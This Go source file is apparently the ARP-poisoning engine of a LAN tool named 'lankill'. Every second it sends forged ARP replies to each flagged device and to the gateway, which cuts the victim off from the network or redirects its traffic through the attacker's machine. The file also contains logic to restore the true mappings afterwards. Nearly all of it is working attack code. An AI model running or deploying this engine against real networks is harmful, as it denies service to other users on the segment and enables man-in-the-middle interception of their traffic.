package poison

import (
	"context"
	"fmt"
	"log"
	"net"
	"sync"
	"time"

	"github.com/google/uuid"

	"github.com/lcalzada-xor/lankill/internal/adapters/packet"
	"github.com/lcalzada-xor/lankill/internal/core/domain"
	"github.com/lcalzada-xor/lankill/internal/core/ports"
	"github.com/lcalzada-xor/lankill/internal/telemetry"
)

const (
	// DefaultInterval is the poisoning cadence. The loop also observes
	// Killed transitioning false, so un-flagging takes effect within at
	// most one interval of extra poisoning.
	DefaultInterval = 1 * time.Second

	restoreAttempts = 3
	restoreSpacing  = 200 * time.Millisecond
)

// GatewayFunc resolves the current default gateway addressing. Either part
// may be nil when unresolved.
type GatewayFunc func() (net.IP, net.HardwareAddr)

// Config tunes the engine.
type Config struct {
	Interval time.Duration
	// MaxDuration bounds how long a target stays poisoned without an
	// explicit restore. Zero keeps the original unbounded behavior.
	MaxDuration time.Duration
}

// session tracks one continuously poisoned target.
type session struct {
	ID      string
	MAC     string
	Started time.Time
}

// Engine re-asserts ARP cache poisoning for every killed registry record on
// a fixed tick, and sends corrective replies once the flag clears. It never
// sets the flag itself.
type Engine struct {
	registry ports.DeviceRegistry
	sender   ports.FrameSender
	iface    domain.Interface
	gateway  GatewayFunc
	cfg      Config

	warn   func(domain.Warning)
	logger func(msg, level string)

	mu       sync.Mutex
	sessions map[string]*session
}

// NewEngine creates a poison engine bound to one interface's send handle.
func NewEngine(registry ports.DeviceRegistry, sender ports.FrameSender, iface domain.Interface, gateway GatewayFunc, cfg Config) *Engine {
	if cfg.Interval <= 0 {
		cfg.Interval = DefaultInterval
	}
	return &Engine{
		registry: registry,
		sender:   sender,
		iface:    iface,
		gateway:  gateway,
		cfg:      cfg,
		sessions: make(map[string]*session),
	}
}

// SetWarningSink sets the advisory warning callback.
func (e *Engine) SetWarningSink(fn func(domain.Warning)) { e.warn = fn }

// SetLogger sets the callback for logging events.
func (e *Engine) SetLogger(logger func(string, string)) { e.logger = logger }

func (e *Engine) log(msg, level string) {
	prefix := "[POISON]"
	if level == "error" || level == "danger" {
		prefix = "[POISON ERROR]"
	}
	log.Printf("%s %s", prefix, msg)
	if e.logger != nil {
		go e.logger(msg, level)
	}
}

func (e *Engine) emitWarning(t domain.WarningType, msg string) {
	if e.warn != nil {
		e.warn(domain.Warning{Type: t, Message: msg, Timestamp: time.Now()})
	}
}

// Run executes the poisoning loop until ctx is cancelled. The loop survives
// individual send failures and unresolved targets; it only exits on
// cancellation or when the interface descriptor is unusable.
func (e *Engine) Run(ctx context.Context) {
	ticker := time.NewTicker(e.cfg.Interval)
	defer ticker.Stop()

	for {
		select {
		case <-ctx.Done():
			return
		case <-ticker.C:
			if !e.iface.Valid() {
				e.log("interface information unavailable, stopping loop", "error")
				return
			}
			e.tick(ctx)
		}
	}
}

// tick poisons every killed record and restores every target whose flag
// cleared since the previous pass.
func (e *Engine) tick(ctx context.Context) {
	gwIP, gwMAC := e.gateway()

	killed := make(map[string]domain.DeviceRecord)
	for _, rec := range e.registry.GetAllDevices(ctx) {
		if rec.Killed {
			killed[rec.MAC] = rec
		}
	}

	// Targets un-flagged since last tick get corrective replies.
	e.mu.Lock()
	var toRestore []string
	for mac := range e.sessions {
		if _, still := killed[mac]; !still {
			toRestore = append(toRestore, mac)
		}
	}
	for _, mac := range toRestore {
		delete(e.sessions, mac)
	}
	e.mu.Unlock()

	for _, mac := range toRestore {
		if rec, ok := e.registry.GetDevice(ctx, mac); ok {
			e.Restore(ctx, rec)
		}
	}

	if len(killed) == 0 {
		return
	}
	if gwIP == nil {
		// Resolution-soft: nothing to claim without a gateway address.
		e.log("gateway unresolved, skipping poison cycle", "warning")
		return
	}

	for _, rec := range killed {
		if e.expireIfOverdue(ctx, rec) {
			continue
		}
		e.ensureSession(rec)
		if err := e.spoofPair(rec, gwIP, gwMAC); err != nil {
			// Per-target failure never aborts the loop.
			e.log(fmt.Sprintf("spoof %s failed: %v", rec.MAC, err), "error")
		}
	}
}

func (e *Engine) ensureSession(rec domain.DeviceRecord) {
	e.mu.Lock()
	defer e.mu.Unlock()
	if _, ok := e.sessions[rec.MAC]; ok {
		return
	}
	s := &session{ID: uuid.New().String(), MAC: rec.MAC, Started: time.Now()}
	e.sessions[rec.MAC] = s
	e.log(fmt.Sprintf("poisoning %s (%s), session %s", rec.MAC, rec.IP, s.ID), "warning")
}

// expireIfOverdue enforces the optional poison duration bound. It un-kills
// the record itself and restores immediately; the operator is informed via
// the warning stream.
func (e *Engine) expireIfOverdue(ctx context.Context, rec domain.DeviceRecord) bool {
	if e.cfg.MaxDuration <= 0 {
		return false
	}
	e.mu.Lock()
	s, ok := e.sessions[rec.MAC]
	overdue := ok && time.Since(s.Started) > e.cfg.MaxDuration
	if overdue {
		delete(e.sessions, rec.MAC)
	}
	e.mu.Unlock()

	if !overdue {
		return false
	}

	e.registry.SetKilled(ctx, rec.MAC, false)
	e.emitWarning(domain.WarnPoisonExpired,
		fmt.Sprintf("poisoning of %s (%s) exceeded %s and was released", rec.MAC, rec.IP, e.cfg.MaxDuration))
	if updated, ok := e.registry.GetDevice(ctx, rec.MAC); ok {
		e.Restore(ctx, updated)
	}
	return true
}

// spoofPair sends the two forged replies that isolate one target: the
// victim learns the gateway IP at our MAC, the gateway learns the victim IP
// at our MAC. Both caches need continuous overwriting, hence one pair per
// tick.
func (e *Engine) spoofPair(rec domain.DeviceRecord, gwIP net.IP, gwMAC net.HardwareAddr) error {
	victimMAC, err := net.ParseMAC(rec.MAC)
	if err != nil {
		return fmt.Errorf("victim hardware address: %w", err)
	}
	victimIP := net.ParseIP(rec.IP)
	if victimIP == nil {
		return fmt.Errorf("victim %s has no usable IP", rec.MAC)
	}

	toVictim, err := packet.BuildARPReply(e.iface.MAC, gwIP, victimMAC, victimIP)
	if err != nil {
		return err
	}
	if err := e.sender.Send(toVictim); err != nil {
		return fmt.Errorf("victim side: %w", err)
	}
	telemetry.PoisonFrames.WithLabelValues("victim").Inc()

	// Unresolved gateway MAC degrades to broadcast; the loop keeps going.
	gwDst := gwMAC
	if gwDst == nil {
		gwDst = packet.Broadcast
	}
	toGateway, err := packet.BuildARPReply(e.iface.MAC, victimIP, gwDst, gwIP)
	if err != nil {
		return err
	}
	if err := e.sender.Send(toGateway); err != nil {
		return fmt.Errorf("gateway side: %w", err)
	}
	telemetry.PoisonFrames.WithLabelValues("gateway").Inc()

	return nil
}

// Restore re-announces the true address pairings so both caches repair
// before their next natural re-ARP. Best effort, repeated a few times to
// ride out loss. Missing true hardware addresses make the restore degraded,
// which is surfaced as a warning rather than silent success.
func (e *Engine) Restore(ctx context.Context, rec domain.DeviceRecord) {
	gwIP, gwMAC := e.gateway()
	if gwIP == nil {
		e.emitWarning(domain.WarnDegradedRestore,
			fmt.Sprintf("restore of %s skipped: gateway unresolved", rec.MAC))
		return
	}

	victimMAC, err := net.ParseMAC(rec.MAC)
	if err != nil {
		e.emitWarning(domain.WarnDegradedRestore,
			fmt.Sprintf("restore of %s skipped: %v", rec.MAC, err))
		return
	}
	victimIP := net.ParseIP(rec.IP)
	if victimIP == nil {
		e.emitWarning(domain.WarnDegradedRestore,
			fmt.Sprintf("restore of %s skipped: no usable IP", rec.MAC))
		return
	}

	degraded := gwMAC == nil
	if degraded {
		e.emitWarning(domain.WarnDegradedRestore,
			fmt.Sprintf("restoring %s without the true gateway hardware address; victim-side cache may stay stale until it re-ARPs", rec.MAC))
	}

	e.log(fmt.Sprintf("restoring %s (%s)", rec.MAC, rec.IP), "info")

	for attempt := 0; attempt < restoreAttempts; attempt++ {
		if attempt > 0 {
			select {
			case <-ctx.Done():
				return
			case <-time.After(restoreSpacing):
			}
		}

		// Victim relearns the real gateway mapping. Requires the true
		// gateway MAC; skipped when degraded.
		if !degraded {
			if frame, err := packet.BuildARPReply(gwMAC, gwIP, victimMAC, victimIP); err == nil {
				if err := e.sender.Send(frame); err == nil {
					telemetry.RestoreFrames.Inc()
				}
			}
		}

		// Gateway relearns the real victim mapping.
		gwDst := gwMAC
		if gwDst == nil {
			gwDst = packet.Broadcast
		}
		if frame, err := packet.BuildARPReply(victimMAC, victimIP, gwDst, gwIP); err == nil {
			if err := e.sender.Send(frame); err == nil {
				telemetry.RestoreFrames.Inc()
			}
		}
	}
}

// RestoreAll un-kills and restores every currently poisoned target. Called
// on shutdown so the segment is left in its true state.
func (e *Engine) RestoreAll(ctx context.Context) {
	e.mu.Lock()
	macs := make([]string, 0, len(e.sessions))
	for mac := range e.sessions {
		macs = append(macs, mac)
	}
	e.sessions = make(map[string]*session)
	e.mu.Unlock()

	for _, mac := range macs {
		e.registry.SetKilled(ctx, mac, false)
		if rec, ok := e.registry.GetDevice(ctx, mac); ok {
			e.Restore(ctx, rec)
		}
	}
	if len(macs) > 0 {
		e.log(fmt.Sprintf("restored %d poisoned targets on shutdown", len(macs)), "info")
	}
}

// ActiveSessions returns the MACs currently under poisoning.
func (e *Engine) ActiveSessions() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	macs := make([]string, 0, len(e.sessions))
	for mac := range e.sessions {
		macs = append(macs, mac)
	}
	return macs
}
